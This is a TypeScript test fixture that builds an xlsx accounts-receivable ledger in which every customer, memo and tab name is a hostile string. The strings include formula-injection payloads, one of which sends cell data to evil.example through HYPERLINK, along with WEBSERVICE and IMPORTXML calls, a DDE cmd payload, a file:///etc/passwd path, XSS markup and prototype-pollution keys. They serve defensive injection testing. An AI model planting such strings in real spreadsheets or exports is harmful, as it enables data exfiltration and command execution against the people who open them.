/** A workbook whose every text is an attack: formulas, links, markup, names of JavaScript's own. It is a ledger all the same. */
import { writeXlsx } from 'hucre/xlsx';

/** What somebody who can write into a customer's ledger might put there. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"pay here")', '=1+1', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', "'=1+1", "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/")', '=IMPORTXML("http://evil.example/","//a")',
  'javascript:alert(1)', 'file:///etc/passwd', 'http://evil.example/', '\\\\evil.example\\share', 'mailto:evil@example.com',
  '<img src=x onerror="window.hacked=1">', '<script>window.hacked=1</script>', '<svg onload=window.hacked=1>', '"><iframe src=javascript:parent.hacked=1>', '</t></is></c><c><f>1+1</f></c>', '&lt;b&gt;&#61;1+1', ']]><f>1+1</f>', '{{constructor.constructor("window.hacked=1")()}}', '${window.hacked=1}',
  '__proto__', 'constructor', 'hasOwnProperty', '&P&N &D "quoted"', '_x003D_1+1', '\u202e=1+1\u202c',
] as const;

type Cell = string | number | null;

/** Each text is a customer, a document, a reference, a memo, a product and a rep; the tabs bear hostile names too. */
export async function hostileWorkbook(): Promise<Uint8Array> {
  const ours: Cell[][] = [['Date', 'Type', 'Num', 'Customer', 'Item', 'Memo', 'Rep', 'Debit', 'Credit']];
  const theirs: Cell[][] = [['Date', 'Customer', 'Type', 'Your Ref', 'Our Ref', 'Memo', 'Debit', 'Credit']];
  HOSTILE_TEXTS.forEach((text, i) => {
    const customer = `${text} Ltd`;
    ours.push([46023 + i, 'Invoice', `${text}-1`, customer, text, text, text, 1000 + i, null]);
    ours.push([46053 + i, 'Invoice', `INV-${i}2`, customer, text, text, text, 500.25 + i, null]);
    ours.push([46083 + i, 'Payment', `REC-${i}3`, customer, text, text, text, null, 200 + i]);
    theirs.push([46024 + i, customer, 'Bill', `${text}-1`, text, text, null, 990 + i]);
    theirs.push([46084 + i, customer, 'Payment', '', `${text}-9`, text, 200 + i, null]);
    theirs.push([46085 + i, customer, 'Rebate', '', '', text, 33, null]);
  });
  return (await writeXlsx({ sheets: [{ name: '=AR Ledger', rows: ours }, { name: '@Stmt <b> & "x"', rows: theirs }] })) as Uint8Array;
}
